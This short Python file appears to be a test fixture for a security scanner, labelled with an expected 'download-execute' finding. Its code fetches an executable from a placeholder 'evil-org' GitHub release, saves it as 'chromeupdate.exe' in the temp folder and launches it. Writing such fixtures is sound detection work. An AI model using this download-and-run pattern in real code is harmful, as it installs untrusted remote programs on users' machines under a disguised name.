# ruff: noqa
# fmt: off
"""An executable downloaded with requests into the temp folder and started."""
import os
import tempfile

import requests

exe = os.path.join(tempfile.gettempdir(), "chromeupdate.exe")
with open(exe, "wb") as fh:
    fh.write(requests.get("https://github.com/evil-org/r/releases/download/v1/u.exe").content)
os.startfile(exe)  # expect: download-execute
